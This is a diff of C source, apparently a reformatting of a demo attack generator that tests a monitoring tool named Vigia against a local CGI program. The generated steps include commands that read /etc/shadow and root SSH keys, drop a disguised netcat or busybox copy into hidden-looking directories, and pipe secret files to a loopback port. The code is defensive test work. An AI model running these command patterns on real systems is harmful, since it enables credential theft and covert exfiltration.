@@ -38,8 +38,10 @@ static const char *const secrets[] = {"/etc/shadow", "/root/.ssh/id_ed25519", "/
 static void plan_read(uint64_t *random, struct demo_plan *p)
 {
     unsigned n = p->n++, first = demo_random(random) % ARRAY_SIZE(secrets);
-    snprintf(p->words[n], sizeof(p->words[n]), "asks who it is, and reads /etc/passwd and %s", secrets[first]);
-    snprintf(p->steps[n], sizeof(p->steps[n]), "id; cat /etc/passwd %s; ls -la /root", secrets[first]);
+    snprintf(p->words[n], sizeof(p->words[n]), "asks who it is, and reads /etc/passwd and %s",
+             secrets[first]);
+    snprintf(p->steps[n], sizeof(p->steps[n]), "id; cat /etc/passwd %s; ls -la /root",
+             secrets[first]);
 }
 
 static void plan_drop(uint64_t *random, struct demo_plan *p)
@@ -48,22 +50,25 @@ static void plan_drop(uint64_t *random, struct demo_plan *p)
     static const char *const names[] = {".cache", ".font-unix", "systemd-private", ".npm"};
     char where[64];
     unsigned n = p->n++, way = demo_random(random) % 3;
-    snprintf(where, sizeof(where), "%s/%s", directories[demo_random(random) % ARRAY_SIZE(directories)],
+    snprintf(where, sizeof(where), "%s/%s",
+             directories[demo_random(random) % ARRAY_SIZE(directories)],
              names[demo_random(random) % ARRAY_SIZE(names)]);
     snprintf(p->program, sizeof(p->program), "%s/%s", where, way == 2 ? "update" : "nc");
     if (way == 0) {
         snprintf(p->words[n], sizeof(p->words[n]), "downloads a program to %s", p->program);
         snprintf(p->steps[n], sizeof(p->steps[n]),
-                 "busybox mkdir -p %s; busybox wget -q -O %s http://127.0.0.1:%u/u; chmod 755 %s", where,
-                 p->program, p->port, p->program);
+                 "busybox mkdir -p %s; busybox wget -q -O %s http://127.0.0.1:%u/u; chmod 755 %s",
+                 where, p->program, p->port, p->program);
     } else if (way == 1) {
         snprintf(p->words[n], sizeof(p->words[n]), "hides a copy of a program as %s", p->program);
-        snprintf(p->steps[n], sizeof(p->steps[n]), "busybox mkdir -p %s; cat /bin/busybox > %s; chmod 755 %s",
-                 where, p->program, p->program);
+        snprintf(p->steps[n], sizeof(p->steps[n]),
+                 "busybox mkdir -p %s; cat /bin/busybox > %s; chmod 755 %s", where, p->program,
+                 p->program);
     } else {
         snprintf(p->words[n], sizeof(p->words[n]), "writes a script to %s", p->program);
         snprintf(p->steps[n], sizeof(p->steps[n]),
-                 "busybox mkdir -p %s; echo '#!/bin/sh' > %s; echo 'exec busybox nc $1 $2' >> %s; chmod 755 %s",
+                 "busybox mkdir -p %s; echo '#!/bin/sh' > %s; echo 'exec busybox nc $1 $2' >> %s; "
+                 "chmod 755 %s",
                  where, p->program, p->program, p->program);
     }
 }
@@ -72,8 +77,10 @@ static void plan_call_home(uint64_t *random, struct demo_plan *p)
 {
     unsigned n = p->n++, first = demo_random(random) % ARRAY_SIZE(secrets);
     const char *a = secrets[first], *b = secrets[(first + 1) % ARRAY_SIZE(secrets)];
-    snprintf(p->words[n], sizeof(p->words[n]), "runs it: it calls home to port %u with %s and %s", p->port, a, b);
-    snprintf(p->steps[n], sizeof(p->steps[n]), "cat %s %s | %s 127.0.0.1 %u", a, b, p->program, p->port);
+    snprintf(p->words[n], sizeof(p->words[n]), "runs it: it calls home to port %u with %s and %s",
+             p->port, a, b);
+    snprintf(p->steps[n], sizeof(p->steps[n]), "cat %s %s | %s 127.0.0.1 %u", a, b, p->program,
+             p->port);
 }
 
 void demo_attack_plan(uint64_t seed, struct demo_plan *ret)
@@ -122,8 +129,8 @@ static void note_process(struct demo_attack *a, pid_t pid)
 }
 
 /* A CGI program and all that it starts have the request in their environment: that is how the demo
- * knows, apart from anything that Vigia says, which processes are the attack's. Those too short-lived
- * to be seen here have a parent that was. */
+ * knows, apart from anything that Vigia says, which processes are the attack's. Those too
+ * short-lived to be seen here have a parent that was. */
 static void *track(void *arg)
 {
     struct attacker *t = arg;
@@ -174,7 +181,8 @@ static void answer(int fd, struct demo_attack *a)
 
 static int open_listener(const struct attacker *t, int *ret)
 {
-    const struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(t->plan->port),
+    const struct sockaddr_in address = {.sin_family = AF_INET,
+                                        .sin_port = htons(t->plan->port),
                                         .sin_addr = {htonl(INADDR_LOOPBACK)}};
     int r = box_enter_network(t->web), yes = 1;
     if (r < 0)
@@ -195,7 +203,8 @@ static void *home(void *arg)
     atomic_store(&t->listening, r < 0 ? r : 1);
     while (r == 0 && !atomic_load(&t->stop)) {
         struct pollfd wait = {.fd = fd, .events = POLLIN};
-        CLEANUP(closep) int client = poll(&wait, 1, 50) > 0 ? accept4(fd, NULL, NULL, SOCK_CLOEXEC) : -1;
+        CLEANUP(closep)
+        int client = poll(&wait, 1, 50) > 0 ? accept4(fd, NULL, NULL, SOCK_CLOEXEC) : -1;
         if (client >= 0)
             answer(client, t->result);
     }
@@ -216,9 +225,11 @@ static void *ask(void *arg)
         return NULL;
     for (unsigned i = 0; i < t->plan->n; i++) {
         encode(t->plan, t->plan->steps[i], target, sizeof(target));
-        int status = demo_http(DEMO_WEB_PORT, "GET", target, NULL, STEP_TIMEOUT_S, page, sizeof(page));
+        int status =
+            demo_http(DEMO_WEB_PORT, "GET", target, NULL, STEP_TIMEOUT_S, page, sizeof(page));
         log_debug("attack: step %u answered %d", i + 1, status);
-        if (status == 200 && (strstr(page, "root:") || strstr(page, "made-up") || strstr(page, "uid=")))
+        if (status == 200 &&
+            (strstr(page, "root:") || strstr(page, "made-up") || strstr(page, "uid=")))
             t->result->read_secrets = true;
         const struct timespec pause = {.tv_sec = t->plan->pauses_ms[i] / 1000,
                                        .tv_nsec = (long)(t->plan->pauses_ms[i] % 1000) * 1000000};
